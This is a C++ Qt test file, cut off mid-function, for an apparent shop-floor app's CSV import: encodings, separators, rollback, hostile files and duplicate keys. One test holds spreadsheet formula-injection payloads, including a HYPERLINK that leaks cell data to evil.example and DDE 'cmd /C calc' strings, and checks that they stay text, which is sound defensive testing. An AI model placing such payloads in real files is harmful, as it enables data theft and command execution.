#include "portability/csvcolumns.h"
#include "portability/csvimport.h"
#include "portability/csvtemplate.h"
#include "testshop.h"

#include <QElapsedTimer>
#include <QEventLoop>
#include <QFile>
#include <QStringEncoder>
#include <QTest>
#include <QTimer>

#include <sys/resource.h>
#include <sys/wait.h>
#include <fcntl.h>
#include <unistd.h>

using namespace ery::domain;
using namespace ery::services;
using namespace ery::portability;
using namespace ery;
using namespace ery::test;

// CSV import on both engines: the original's templates (and the shipped ones), header names in any
// case and spacing with the original's aliases, separators, encodings, references by external key
// and cell name, line numbers of bad rows, whole-or-nothing vs skip-bad-rows, dry runs that write
// nothing, unchanged records left alone, the history row and the import.completed event; hostile
// files (binary, UTF-16 without a mark, Latin-1, formulas, keys named twice, unknown and cyclic
// references), each refused clearly with nothing written, also when the trouble is far into the
// file; a bounded report; progress and cancel; the import in steps, which leaves the thread free
// between them; and a large file imported by the command line with memory that does not grow with it.
class TestCsvImport : public QObject {
    Q_OBJECT
private slots:
    void init();
    void cleanup();
    void templatesInOrder();
    void shippedTemplatesImport();
    void headerNamesAndAliases();
    void separators();
    void encodings_data();
    void encodings();
    void wholeOrNothing();
    void skipBadRowsAndUnchanged();
    void dryRunWritesNothing();
    void hostileFiles_data();
    void hostileFiles();
    void troubleFarIntoTheFileWritesNothing_data();
    void troubleFarIntoTheFileWritesNothing();
    void formulasStayText();
    void keyNamedTwice();
    void unknownReferences();
    void cyclicReferences();
    void tenantsStayApart();
    void quotaHoldsPerRow();
    void reportStaysBounded();
    void progressAndCancel();
    void stepsLeaveTheThreadFree();
    void stepsAllOrNothing();
    void cancelInSteps();
    void abandonedImportRollsBack();
    void largeFileMemoryStaysBounded();

private:
    Result<CsvImport::Report> import(SyncService::Entity e, const QByteArray &csv, CsvImport::Options o = {}, const Scope *scope = nullptr);
    // CsvImport::start, waited for in the event loop; between + every 2 ms while it runs.
    Result<CsvImport::Report> importInSteps(const QByteArray &csv, CsvImport::Options o, const std::function<void()> &between);
    static QByteArray jobsFile(const QString &prefix, int rows);
    qint64 count(const char *table, const QString &where = QStringLiteral("1=1"));
    std::unique_ptr<TestShop> m_shop;
};

void TestCsvImport::init()
{
    m_shop = TestShop::create();
}

void TestCsvImport::cleanup()
{
    m_shop.reset();
}

Result<CsvImport::Report> TestCsvImport::import(SyncService::Entity e, const QByteArray &csv, CsvImport::Options o, const Scope *scope)
{
    return CsvImport(m_shop->s()).run(scope ? *scope : m_shop->scope, e, csv, o);
}

qint64 TestCsvImport::count(const char *table, const QString &where)
{
    auto n = m_shop->db().scalar(QStringLiteral("SELECT COUNT(*) FROM %1 WHERE %2").arg(QLatin1String(table), where));
    return n ? *n : -1;
}

void TestCsvImport::templatesInOrder()
{
    // cells → resources → jobs → parts → operations, with the original's template headers.
    ERY_VERIFY_OK(import(SyncService::Cells, "external_id,external_source,name,sequence,color,capacity_hours_per_day,wip_limit\n"
                                             "C1,erp,Waterjet,9,#00aaff,16,4\n"));
    ERY_VERIFY_OK(import(SyncService::Resources, "external_id,external_source,name,type,identifier,location,notes\n"
                                                 "R1,erp,Press 4,machine,PB-4,Hall B,\n"));
    auto jobs = import(SyncService::Jobs, "\xEF\xBB\xBF"
                                          "external_id,external_source,job_number,customer,due_date,status,notes\r\n"
                                          "J1,erp,ERP-1001,Acme,2027-01-15,,first\r\n"
                                          "J2,erp,ERP-1002,\"Müller, GmbH\",2027-01-20,,\"two\nlines\"\r\n");
    ERY_VERIFY_OK(jobs);
    QCOMPARE(jobs->created, 2);
    QVERIFY(jobs->committed);
    QCOMPARE(jobs->encoding, QStringLiteral("UTF-8 with BOM"));
    QCOMPARE(jobs->ignoredColumns, QStringList{"status"}); // status moves through the lifecycle, not imports
    ERY_VERIFY_OK(import(SyncService::Parts, "external_id,external_source,part_number,job_external_id,material,quantity,notes\n"
                                             "P1,erp,ERP-1001-A,J1,S235 3mm,5,\nP2,erp,ERP-1002-A,J2,Alu 2mm,2,\n"));
    auto ops = import(SyncService::Operations,
                      "external_id,external_source,operation_name,part_external_id,cell_name,sequence,estimated_time_minutes,notes\n"
                      "O1,erp,Cut,P1,Waterjet,1,12,\nO2,erp,Bend,P1,Bending,2,8,\nO3,erp,Cut,P2,Waterjet,1,5,\n");
    ERY_VERIFY_OK(ops);
    QCOMPARE(ops->created, 3);
    auto job = m_shop->s().jobs.byNumber(m_shop->scope, "ERP-1002");
    ERY_VERIFY_OK(job);
    QCOMPARE(str(*job, "customer"), QString::fromUtf8("Müller, GmbH"));
    QCOMPARE(str(*job, "notes"), QStringLiteral("two\nlines"));
    QCOMPARE(str(*job, "due_date"), QStringLiteral("2027-01-20T00:00:00.000Z"));
    auto cut =
        m_shop->db().query("SELECT o.estimated_time, c.name FROM operations o JOIN cells c ON c.id = o.cell_id WHERE o.external_id = 'O1'");
    QCOMPARE(num(cut->front(), "estimated_time"), qint64(12));
    QCOMPARE(str(cut->front(), "name"), QStringLiteral("Waterjet"));
    // Each committed file: a history row and one import.completed, plus the entities' own events.
    QCOMPARE(count("sync_imports", "operation = 'csv_import'"), qint64(5));
    QCOMPARE(m_shop->eventCount("import.completed"), qint64(5));
    QCOMPARE(m_shop->eventCount("job.created"), qint64(3)); // J-100 of the seed + 2
    const Json last = m_shop->events("import.completed").back()["payload"]["data"];
    QCOMPARE(str(last, "entity_type"), QStringLiteral("operations"));
    QCOMPARE(num(last, "created"), qint64(3));
    // Each record is stamped in its own INSERT: one row change per record, already with its hash.
    const QString imported = QStringLiteral("entity_id IN (SELECT id FROM operations WHERE external_source = 'erp')");
    QCOMPARE(count("operations", "external_source = 'erp' AND sync_hash IS NOT NULL AND synced_at IS NOT NULL"), qint64(3));
    QCOMPARE(count("outbox", QStringLiteral("kind = 'change' AND topic = 'operations' AND ") + imported), qint64(3));
    QCOMPARE(
        count("outbox", QStringLiteral("kind = 'change' AND topic = 'operations' AND payload LIKE '%\"sync_hash\":null%' AND ") + imported),
        qint64(0));
    // The activity log has one entry per file (entity type "import", the event's counts), none per row.
    QCOMPARE(count("activity_log", imported), qint64(0));
    QCOMPARE(count("activity_log", "entity_type = 'import' AND action = 'import'"), qint64(5));
    auto entry =
        m_shop->db().query("SELECT entity_id, description, changes FROM activity_log WHERE entity_type = 'import' ORDER BY id DESC");
    ERY_VERIFY_OK(entry);
    QCOMPARE(str(entry->front(), "entity_id"), str(last, "import_id"));
    QCOMPARE(str(entry->front()["changes"], "entity_type"), QStringLiteral("operations"));
    QCOMPARE(num(entry->front()["changes"], "created"), qint64(3));
    QVERIFY(str(entry->front(), "description").contains(QLatin1String("3 created")));
}

void TestCsvImport::shippedTemplatesImport()
{
    // The files in resources/templates, as the API hands them out, go into an empty shop as they
    // are, in their order, and their sample rows land where they say.
    auto other = m_shop->s().tenants.create(Json{{"name", "Template Shop"}});
    ERY_VERIFY_OK(other);
    const Scope b = Scope::of(str(other->live, "id"));
    QCOMPARE(CsvTemplate::entities(), (QStringList{"cells", "resources", "jobs", "parts", "operations"}));
    for (const QString &entity : CsvTemplate::entities()) {
        auto file = CsvTemplate::file(entity);
        ERY_VERIFY_OK(file);
        QFile shipped(QStringLiteral(ERYXON_SOURCE_DIR "/resources/templates/%1.csv").arg(entity));
        QVERIFY(shipped.open(QIODevice::ReadOnly));
        QCOMPARE(*file, shipped.readAll()); // the compiled-in file is the shipped one
        auto r = import(*SyncService::entityNamed(entity), *file, {}, &b);
        ERY_VERIFY_OK(r);
        QVERIFY2(r->committed && r->created == 1, qPrintable(QString::fromStdString(r->toJson().dump())));
        QCOMPARE(r->ignoredColumns, entity == QLatin1String("jobs") ? QStringList{"status"} : QStringList{});
    }
    auto op = m_shop->db().query("SELECT o.estimated_time, c.name AS cell, p.part_number, j.job_number FROM operations o "
                                 "JOIN cells c ON c.id = o.cell_id JOIN parts p ON p.id = o.part_id JOIN jobs j ON j.id = p.job_id "
                                 "WHERE o.external_id = 'OP-1001-1-10' AND o.tenant_id = ?",
                                 {b.tenantId});
    ERY_VERIFY_OK(op);
    QCOMPARE(op->size(), size_t(1));
    QCOMPARE(num(op->front(), "estimated_time"), qint64(12));
    QCOMPARE(str(op->front(), "job_number"), QStringLiteral("WO-1001"));
    auto res = m_shop->db().query("SELECT description FROM resources WHERE external_id = 'RES-PB4'");
    QCOMPARE(str(res->front(), "description"), QStringLiteral("Bends up to 3 m")); // the template's notes
    QVERIFY(!CsvTemplate::file(QStringLiteral("widgets")));
    QCOMPARE(toString(CsvTemplate::file(QStringLiteral("widgets")).error().code), toString(ErrorCode::NotFound));
}

void TestCsvImport::headerNamesAndAliases()
{
    QCOMPARE(CsvColumns::normalised(QStringLiteral(" Job Number ")), QStringLiteral("job_number"));
    QCOMPARE(CsvColumns::normalised(QStringLiteral("EXTERNAL-ID")), QStringLiteral("external_id"));
    QCOMPARE(CsvColumns::normalised(QString::fromUtf8("Due\u00a0 Date")), QStringLiteral("due_date"));
    QCOMPARE(CsvColumns::normalised(QStringLiteral("__Part  . Number__")), QStringLiteral("part_number"));
    QCOMPARE(CsvColumns::normalised(QString::fromUtf8("\ufeffexternal_id")), QStringLiteral("external_id"));
    // As a spreadsheet's user writes a header, with the original's other names for fields.
    auto jobs = import(SyncService::Jobs, " External ID ;External-Source; Job Number ;Customer Name;DESCRIPTION;Due Date\n"
                                          "H1;erp;HDR-1;Acme;rush order;2027-05-01\n");
    ERY_VERIFY_OK(jobs);
    QVERIFY(jobs->committed);
    QVERIFY(jobs->ignoredColumns.isEmpty());
    auto job = m_shop->s().jobs.byNumber(m_shop->scope, "HDR-1");
    ERY_VERIFY_OK(job);
    QCOMPARE(str(*job, "customer"), QStringLiteral("Acme"));
    QCOMPARE(str(*job, "notes"), QStringLiteral("rush order"));
    QCOMPARE(str(*job, "external_id"), QStringLiteral("H1"));
    // A resource keeps a description; the original's template calls it notes.
    ERY_VERIFY_OK(import(SyncService::Resources, "external_id,external_source,Name,Type,Notes\nR9,erp,Jig 9,fixture,left-hand only\n"));
    auto res = m_shop->db().query("SELECT description FROM resources WHERE external_id = 'R9'");
    QCOMPARE(str(res->front(), "description"), QStringLiteral("left-hand only"));
    // A field named twice, once by its alias: refused, naming both.
    auto twice = import(SyncService::Jobs, "external_id,external_source,job_number,customer,Customer Name\nH2,erp,HDR-2,A,B\n");
    QVERIFY(!twice);
    QVERIFY2(twice.error().message.contains("\"customer\" twice") && twice.error().message.contains("Customer Name"),
             qPrintable(twice.error().message));
    // Every alias fills a field of its entity.
    for (const auto &a : CsvColumns::aliases()) {
        bool known = false;
        for (const Field &f : m_shop->s().sync.fieldsOf(*SyncService::entityNamed(QLatin1String(a.entity))))
            known = known || QLatin1String(f.name) == QLatin1String(a.field);
        QVERIFY2(known, a.column);
        QCOMPARE(CsvColumns::normalised(QLatin1String(a.column)), QLatin1String(a.column));
    }
}

void TestCsvImport::separators()
{
    // Dutch and German Excel: semicolons and a decimal comma. Excel's tab-separated text too.
    auto semi = import(SyncService::Cells, "external_id;external_source;name;capacity_hours_per_day\nS1;erp;Saw;7,5\n");
    ERY_VERIFY_OK(semi);
    QCOMPARE(semi->separator, QStringLiteral(";"));
    auto tab = import(SyncService::Cells, "external_id\texternal_source\tname\tcapacity_hours_per_day\nS2\terp\tDrill, big\t8\n");
    ERY_VERIFY_OK(tab);
    QCOMPARE(tab->separator, QStringLiteral("\t"));
    auto rows = m_shop->db().query("SELECT name, capacity_hours_per_day FROM cells WHERE external_id IN ('S1', 'S2') ORDER BY external_id");
    QCOMPARE(str(rows->at(0), "name"), QStringLiteral("Saw"));
    QCOMPARE(rows->at(0)["capacity_hours_per_day"].get<double>(), 7.5);
    QCOMPARE(str(rows->at(1), "name"), QStringLiteral("Drill, big"));
}

namespace {

QByteArray utf16(const QString &text, QStringConverter::Encoding e)
{
    QStringEncoder enc(e, QStringConverter::Flag::WriteBom);
    return enc(text);
}

const QString kUmlautFile = QString::fromUtf8("external_id\texternal_source\tjob_number\tcustomer\r\nU1\terp\tENC-1\tMüller & Søn ✓\r\n");

} // namespace

void TestCsvImport::encodings_data()
{
    QTest::addColumn<QByteArray>("csv");
    QTest::addColumn<QString>("encoding");
    QTest::newRow("UTF-8") << kUmlautFile.toUtf8() << "UTF-8";
    QTest::newRow("UTF-8 with BOM") << QByteArray("\xEF\xBB\xBF" + kUmlautFile.toUtf8()) << "UTF-8 with BOM";
    QTest::newRow("UTF-16LE (Excel's Unicode text)") << utf16(kUmlautFile, QStringConverter::Utf16LE) << "UTF-16LE";
    QTest::newRow("UTF-16BE") << utf16(kUmlautFile, QStringConverter::Utf16BE) << "UTF-16BE";
    QTest::newRow("CR line ends (Excel for Mac)") << QString(kUmlautFile).replace(QStringLiteral("\r\n"), QStringLiteral("\r")).toUtf8()
                                                  << "UTF-8";
}

void TestCsvImport::encodings()
{
    QFETCH(QByteArray, csv);
    QFETCH(QString, encoding);
    auto r = import(SyncService::Jobs, csv);
    ERY_VERIFY_OK(r);
    QVERIFY2(r->committed, qPrintable(QString::fromStdString(r->toJson().dump())));
    QCOMPARE(r->encoding, encoding);
    QCOMPARE(r->rows.front().line, 2);
    QCOMPARE(str(*m_shop->s().jobs.byNumber(m_shop->scope, "ENC-1"), "customer"), QString::fromUtf8("Müller & Søn ✓"));
}

void TestCsvImport::wholeOrNothing()
{
    const qint64 outbox = m_shop->outboxCount();
    auto r = import(SyncService::Jobs, "external_id,external_source,job_number,due_date,package_count\n"
                                       "J1,erp,A-1,2027-01-15,2\n"
                                       "J2,erp,A-2,2027-02-30,1\n" // no such date
                                       "J3,erp,,2027-03-01,x\n"    // no number, not a count
                                       "J4,erp,A-1,,\n"            // the same number as line 2
                                       ",erp,A-5,,\n");            // no key
    ERY_VERIFY_OK(r);
    QVERIFY(!r->committed);
    QCOMPARE(r->total, 5);
    QCOMPARE(r->failed, 4);
    QCOMPARE(count("jobs", "job_number LIKE 'A-%'"), qint64(0)); // nothing went in
    QCOMPARE(m_shop->outboxCount(), outbox);                     // and nothing was announced
    QCOMPARE(r->rows[0].action, QStringLiteral("create"));       // would have been fine
    QCOMPARE(r->rows[1].line, 3);
    QCOMPARE(str(r->rows[1].errors[0], "column"), QStringLiteral("due_date"));
    QCOMPARE(r->rows[2].line, 4);
    QStringList columns;
    for (const auto &e : r->rows[2].errors)
        columns << str(e, "column");
    QVERIFY2(columns.contains("package_count") && columns.contains("job_number"), qPrintable(columns.join(',')));
    QCOMPARE(str(r->rows[3].errors[0], "code"), QStringLiteral("CONFLICT"));
    QCOMPARE(str(r->rows[4].errors[0], "column"), QStringLiteral("external_id"));
}

void TestCsvImport::skipBadRowsAndUnchanged()
{
    CsvImport::Options skip;
    skip.skipBadRows = true;
    const QByteArray file = "external_id,external_source,job_number,customer\nJ1,erp,S-1,Acme\nJ2,erp,S-2,\nJ3,erp,,Nobody\n";
    auto first = import(SyncService::Jobs, file, skip);
    ERY_VERIFY_OK(first);
    QVERIFY(first->committed);
    QCOMPARE(first->created, 2);
    QCOMPARE(first->failed, 1);
    QCOMPARE(count("jobs", "job_number LIKE 'S-%'"), qint64(2));
    // The same file again: the good rows are unchanged (no write, no event), the bad one still bad.
    const qint64 updatedEvents = m_shop->eventCount("job.updated");
    auto again = import(SyncService::Jobs, file, skip);
    ERY_VERIFY_OK(again);
    QCOMPARE(again->unchanged, 2);
    QCOMPARE(again->failed, 1);
    QCOMPARE(m_shop->eventCount("job.updated"), updatedEvents);
    // A changed cell is an update.
    auto changed = import(SyncService::Jobs, "external_id,external_source,job_number,customer\nJ1,erp,S-1,Acme Metal\n");
    ERY_VERIFY_OK(changed);
    QCOMPARE(changed->updated, 1);
    QCOMPARE(str(*m_shop->s().jobs.byNumber(m_shop->scope, "S-1"), "customer"), QStringLiteral("Acme Metal"));
    auto history = m_shop->db().query("SELECT status, error_count, errors FROM sync_imports ORDER BY created_at");
    QCOMPARE(str(history->front(), "status"), QStringLiteral("completed_with_errors"));
    QCOMPARE(num(history->front()["errors"][0], "line"), qint64(4));
}

void TestCsvImport::dryRunWritesNothing()
{
    CsvImport::Options dry;
    dry.dryRun = true;
    const qint64 outbox = m_shop->outboxCount();
    auto r = import(SyncService::Jobs, "external_id,external_source,job_number\nD1,erp,D-1\nD2,erp,D-2\n", dry);
    ERY_VERIFY_OK(r);
    QVERIFY(r->dryRun && !r->committed);
    QCOMPARE(r->created, 2);
    QCOMPARE(count("jobs", "job_number LIKE 'D-%'"), qint64(0));
    QCOMPARE(count("sync_imports"), qint64(0));
    QCOMPARE(m_shop->outboxCount(), outbox);
    // The source may come with the request instead of a column.
    CsvImport::Options withSource;
    withSource.source = QStringLiteral("spreadsheet");
    auto sourced = import(SyncService::Jobs, "external_id,job_number\nX1,X-1\n", withSource);
    ERY_VERIFY_OK(sourced);
    QCOMPARE(str(*m_shop->s().jobs.byNumber(m_shop->scope, "X-1"), "external_source"), QStringLiteral("spreadsheet"));
}

void TestCsvImport::hostileFiles_data()
{
    QTest::addColumn<QByteArray>("csv");
    QTest::addColumn<QString>("expect"); // words of the refusal
    const QByteArray head = "external_id,external_source,job_number,customer\n";
    QTest::newRow("empty") << QByteArray() << "empty";
    QTest::newRow("header only") << head << "empty";
    QTest::newRow("header and blank lines") << QByteArray(head + "\n,,,\n\r\n") << "empty";
    QTest::newRow("unterminated quote") << QByteArray(head + "J1,erp,\"A-1\n") << "line 2";
    QTest::newRow("stray quote") << QByteArray(head + "J1,erp,A\"1,x\n") << "quote is out of place";
    QTest::newRow("Latin-1") << QByteArray(head + "J1,erp,A-1,Acme\nJ2,erp,A-2,M\xfcller\n") << "Line 3 is not UTF-8";
    QTest::newRow("Latin-1 in a multi-line cell")
        << QByteArray(head + "J1,erp,A-1,\"two\nlines\"\nJ2,erp,A-2,\"a\nb\nM\xfcller\"\n") << "Line 6 is not UTF-8";
    QTest::newRow("Windows-1252 in the header") << QByteArray("external_id,external_source,job_number,Kunde \x93X\x94\nJ1,erp,A\n")
                                                << "Line 1 is not UTF-8";
    QTest::newRow("overlong UTF-8") << QByteArray(head + "J1,erp,A-1,\xc0\xaf\n") << "not UTF-8";
    QTest::newRow("UTF-8 surrogate") << QByteArray(head + "J1,erp,A-1,\xed\xa0\x80\n") << "not UTF-8";
    QTest::newRow("UTF-16 without a mark") << utf16(QString::fromUtf8(head + "J1,erp,A-1,x\n"), QStringConverter::Utf16LE).mid(2)
                                           << "UTF-16";
    QTest::newRow("UTF-32") << QByteArray("\xFF\xFE\x00\x00" "e\0\0\0", 8) << "UTF-32";
    QTest::newRow("UTF-16 cut in half") << QByteArray(utf16(QString::fromUtf8(head + "J1,erp,A-1,x\n"), QStringConverter::Utf16LE) + "\x41")
                                        << "UTF-16";
    QTest::newRow("UTF-16 lone surrogate") << QByteArray(utf16(QString::fromUtf8(head + "J1,erp,A-1,"), QStringConverter::Utf16LE) +
                                                         QByteArray("\x00\xd8\x41\x00\n\x00", 6))
                                           << "UTF-16";
    QTest::newRow("NUL in a cell") << QByteArray(head + QByteArray("J1,erp,A-1,Ac\0me\n", 17)) << "Line 2 holds a NUL byte";
    QTest::newRow("binary") << QByteArray("\x00\x01\x02\x03\xff\xfe\xfd", 7) << "not text";
    QByteArray garbage;
    for (int i = 0; i < 5000; ++i)
        garbage += char((i * 7919 + 13) % 256);
    QTest::newRow("binary garbage") << garbage << "not text";
    QByteArray high;
    for (int i = 0; i < 5000; ++i)
        high += char(0x80 + (i * 31) % 128);
    QTest::newRow("high bytes without NULs") << high << "not UTF-8";
    QTest::newRow("xlsx workbook") << QByteArray("PK\x03\x04\x14\x00\x06\x00", 8) << "workbook";
    QTest::newRow("xls workbook") << QByteArray("\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1", 8) << ".xls";
    QTest::newRow("cell over 1 MiB") << QByteArray(head + "J1,erp,A-1,\"" + QByteArray(1100 * 1024, 'x') + "\"\n") << "larger than 1024 KiB";
    QTest::newRow("unclosed quote swallowing the file")
        << QByteArray(head + "J1,erp,A-1,\"oops\n" + QByteArray(250000, 'a').replace('a', "J,e,B\n").left(1200 * 1024)) << "quote not closed";
    QTest::newRow("endless first line") << QByteArray(100 * 1024, 'a') << "first line";
    QByteArray wide = "external_id,external_source";
    for (int i = 0; i < 600; ++i)
        wide += ",c" + QByteArray::number(i);
    QTest::newRow("600 columns") << QByteArray(wide + "\nJ1,erp\n") << "columns";
    QTest::newRow("no key column") << QByteArray("job_number\nA-1\n") << "external_id";
    QTest::newRow("pipes") << QByteArray("external_id|external_source|job_number\nJ1|e|A\n") << "not |";
    QTest::newRow("duplicate column") << QByteArray("external_id,External ID,external_source\n1,2,x\n") << "twice";
    QTest::newRow("empty column name") << QByteArray("external_id,,external_source\n1,2,x\n") << "empty column";
    QTest::newRow("no source") << QByteArray("external_id,job_number\n1,A\n") << "external_source";
}

void TestCsvImport::hostileFiles()
{
    QFETCH(QByteArray, csv);
    QFETCH(QString, expect);
    const qint64 outbox = m_shop->outboxCount();
    const qint64 jobs = count("jobs");
    auto r = import(SyncService::Jobs, csv);
    QVERIFY2(!r, r ? r->toJson().dump().c_str() : "");
    QCOMPARE(toString(r.error().code), toString(ErrorCode::BadRequest));
    QVERIFY2(r.error().message.contains(expect, Qt::CaseInsensitive), qPrintable(r.error().message));
    QVERIFY(r.error().message.size() < 600);
    QCOMPARE(m_shop->outboxCount(), outbox);
    QCOMPARE(count("jobs"), jobs);
    QVERIFY(!m_shop->db().writeHeld());
    // Nothing of the import stays behind, not even its scratch table.
    ERY_VERIFY_OK(m_shop->s().jobs.create(m_shop->scope, Json{{"job_number", "AFTER-HOSTILE"}}));
}

void TestCsvImport::troubleFarIntoTheFileWritesNothing_data()
{
    QTest::addColumn<QByteArray>("tail");
    QTest::addColumn<QString>("expect");
    QTest::addColumn<bool>("skip");
    QTest::addColumn<bool>("inSteps");
    QTest::newRow("Latin-1") << QByteArray("F-x,erp,F-x,Caf\xe9\n") << "Line 802 is not UTF-8" << false << true;
    QTest::newRow("Latin-1, skipping bad rows") << QByteArray("F-x,erp,F-x,Caf\xe9\n") << "Line 802 is not UTF-8" << true << false;
    QTest::newRow("NUL") << QByteArray("F-x,erp,F-x,A\0B\n", 16) << "Line 802 holds a NUL" << true << false;
    QTest::newRow("broken quote") << QByteArray("F-x,erp,F-x,\"A\"B\n") << "line 802" << true << true;
}

void TestCsvImport::troubleFarIntoTheFileWritesNothing()
{
    // 800 good rows (past the first chunk of the file and several writes of the outbox) went into
    // the transaction before the file turns out not to be CSV text: refused as a whole, even with
    // skip_bad_rows (it is the file that is bad, not a row).
    QFETCH(QByteArray, tail);
    QFETCH(QString, expect);
    QFETCH(bool, skip);
    QFETCH(bool, inSteps);
    QByteArray file = "external_id,external_source,job_number,customer\n";
    for (int i = 0; i < 800; ++i)
        file += "F" + QByteArray::number(i) + ",erp,F-" + QByteArray::number(i) + ",Customer " + QByteArray(80, 'c') + "\n";
    QVERIFY(file.size() > 64 * 1024);
    file += tail;
    const qint64 outbox = m_shop->outboxCount();
    CsvImport::Options o;
    o.skipBadRows = skip;
    auto r = inSteps ? importInSteps(file, o, [] {}) : import(SyncService::Jobs, file, o);
    QVERIFY(!r);
    QVERIFY2(r.error().message.contains(expect, Qt::CaseInsensitive), qPrintable(r.error().message));
    QCOMPARE(count("jobs", "job_number LIKE 'F-%'"), qint64(0));
    QCOMPARE(count("sync_imports"), qint64(0));
    QCOMPARE(m_shop->outboxCount(), outbox);
    QVERIFY(!m_shop->db().writeHeld());
}

void TestCsvImport::formulasStayText()
{
    // What a spreadsheet would run is stored as the text it is, and shown as data.
    const QStringList payloads{QStringLiteral("=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")"), QStringLiteral("+cmd|' /C calc'!A0"),
                               QStringLiteral("@SUM(1+1)*cmd|' /C calc'!A0"), QStringLiteral("-2+3+cmd|' /C calc'!A0"),
                               QStringLiteral("\tTAB=1+1")};
    QByteArray file = "external_id,external_source,job_number,customer,notes\n";
    for (int i = 0; i < payloads.size(); ++i) {
        QString cell = payloads[i];
        file += QStringLiteral("FX%1,erp,FX-%1,\"%2\",\"%2\"\n").arg(i).arg(cell.replace(QLatin1Char('"'), QStringLiteral("\"\""))).toUtf8();
    }
    auto r = import(SyncService::Jobs, file);
    ERY_VERIFY_OK(r);
    QCOMPARE(r->created, payloads.size());
    for (int i = 0; i < payloads.size(); ++i) {
        auto job = m_shop->s().jobs.byNumber(m_shop->scope, QStringLiteral("FX-%1").arg(i));
        ERY_VERIFY_OK(job);
        // Cells are trimmed of surrounding spaces, nothing else.
        QCOMPARE(str(*job, "notes"), payloads[i].trimmed());
        QCOMPARE(str(*job, "customer"), payloads[i].trimmed());
    }
    // In a number field a formula is not a number: the answer quotes it as it was.
    ERY_VERIFY_OK(import(SyncService::Jobs, "external_id,external_source,job_number\nFXJ,erp,FX-J\n"));
    auto parts = import(SyncService::Parts, "external_id,external_source,part_number,job_external_id,material,quantity\n"
                                            "FP1,erp,FX-P,FXJ,S235,=1+1\n");
    ERY_VERIFY_OK(parts);
    QCOMPARE(parts->failed, 1);
    const Json e = parts->toJson()["rows"][0]["errors"][0];
    QCOMPARE(str(e, "column"), QStringLiteral("quantity"));
    QCOMPARE(str(e, "value"), QStringLiteral("=1+1"));
    QCOMPARE(count("parts", "part_number = 'FX-P'"), qint64(0));
}

void TestCsvImport::keyNamedTwice()
{
    // A key the file names twice: every later row with it is an error naming the first line; the
    // file goes in whole or not at all as always, and with skip_bad_rows the first one counts.
    const QByteArray file = "external_id,external_source,job_number,customer\n"
                            "K1,erp,K-1,First\n"
                            "K2,erp,K-2,\n"
                            "K1,erp,K-1b,Second\n"
                            "K1,other,K-3,Another source\n"
                            "K1,erp,K-1c,Third\n";
    const qint64 outbox = m_shop->outboxCount();
    auto r = import(SyncService::Jobs, file);
    ERY_VERIFY_OK(r);
    QVERIFY(!r->committed);
    QCOMPARE(r->failed, 2);
    QCOMPARE(r->rows[2].line, 4);
    QCOMPARE(str(r->rows[2].errors[0], "column"), QStringLiteral("external_id"));
    QVERIFY2(str(r->rows[2].errors[0], "message").contains("on line 2 already"), qPrintable(str(r->rows[2].errors[0], "message")));
    QCOMPARE(r->rows[3].action, QStringLiteral("create")); // the same id of another source is another record
    QVERIFY(str(r->rows[4].errors[0], "message").contains("on line 2 already"));
    QCOMPARE(count("jobs", "external_id = 'K1'"), qint64(0));
    QCOMPARE(m_shop->outboxCount(), outbox);
    CsvImport::Options skip;
    skip.skipBadRows = true;
    auto kept = import(SyncService::Jobs, file, skip);
    ERY_VERIFY_OK(kept);
    QVERIFY(kept->committed);
    QCOMPARE(kept->created, 3);
    QCOMPARE(str(*m_shop->s().jobs.byNumber(m_shop->scope, "K-1"), "customer"), QStringLiteral("First"));
    QVERIFY(!m_shop->s().jobs.byNumber(m_shop->scope, "K-1b"));
    // The next import starts afresh: its keys are its own.
    auto again = import(SyncService::Jobs, "external_id,external_source,job_number,customer\nK1,erp,K-1,First again\n");
    ERY_VERIFY_OK(again);
    QCOMPARE(again->updated, 1);
    // And the keys are remembered nowhere after the import.
    auto tables = m_shop->db().scalar(TestShop::postgres()
                                          ? QStringLiteral("SELECT COUNT(*) FROM pg_tables WHERE tablename LIKE 'eryxon_import%'")
                                          : QStringLiteral("SELECT COUNT(*) FROM sqlite_master WHERE name LIKE 'eryxon_import%'"));
    QCOMPARE(*tables, qint64(0));
}

void TestCsvImport::unknownReferences()
{
    // References to what does not exist are reported per row, by column; nothing is written.
    ERY_VERIFY_OK(import(SyncService::Jobs, "external_id,external_source,job_number\nUJ,erp,U-1\n"));
    ERY_VERIFY_OK(import(SyncService::Parts, "external_id,external_source,part_number,job_external_id,material\nUP,erp,U-1-A,UJ,S235\n"));
    const qint64 outbox = m_shop->outboxCount();
    auto parts = import(SyncService::Parts, "external_id,external_source,part_number,job_external_id,material,parent_part_id\n"
                                            "UP2,erp,U-1-B,NOPE,S235,\n"
                                            "UP3,erp,U-1-C,UJ,S235,00000000-0000-7000-8000-000000000000\n"
                                            "UP4,erp,U-1-D,UJ,S235,not-a-uuid\n");
    ERY_VERIFY_OK(parts);
    QCOMPARE(parts->failed, 3);
    QCOMPARE(str(parts->rows[0].errors[0], "column"), QStringLiteral("job_external_id"));
    QVERIFY(parts->rows[1].errors[0].dump().find("parent part") != std::string::npos);
    QCOMPARE(str(parts->rows[2].errors[0], "column"), QStringLiteral("parent_part_id"));
    auto ops = import(SyncService::Operations, "external_id,external_source,operation_name,part_external_id,cell_name\n"
                                               "UO1,erp,Cut,NOPE,Laser\n"
                                               "UO2,erp,Cut,UP,Plasma\n"
                                               "UO3,erp,Cut,UP,laser\n");
    ERY_VERIFY_OK(ops);
    QCOMPARE(ops->failed, 2);
    QCOMPARE(str(ops->rows[0].errors[0], "column"), QStringLiteral("part_external_id"));
    QCOMPARE(str(ops->rows[1].errors[0], "column"), QStringLiteral("cell_name"));
    QCOMPARE(str(ops->rows[1].errors[0], "value"), QStringLiteral("Plasma"));
    QCOMPARE(ops->rows[2].action, QStringLiteral("create")); // a cell's name in another case is that cell
    QCOMPARE(m_shop->outboxCount(), outbox);
    QCOMPARE(count("operations", "external_id LIKE 'UO%'"), qint64(0));
}

void TestCsvImport::cyclicReferences()
{
    // Assemblies by parent_part_id: a file that would put a part inside its own sub-assembly is
    // refused on that row.
    ERY_VERIFY_OK(import(SyncService::Jobs, "external_id,external_source,job_number\nCJ,erp,C-1\n"));
    ERY_VERIFY_OK(import(SyncService::Parts, "external_id,external_source,part_number,job_external_id,material\n"
                                             "CA,erp,C-A,CJ,S235\nCB,erp,C-B,CJ,S235\nCC,erp,C-C,CJ,S235\n"));
    auto idOf = [&](const char *key) { return str(m_shop->db().query("SELECT id FROM parts WHERE external_id = ?", {key})->front(), "id"); };
    const QString a = idOf("CA"), b = idOf("CB"), c = idOf("CC");
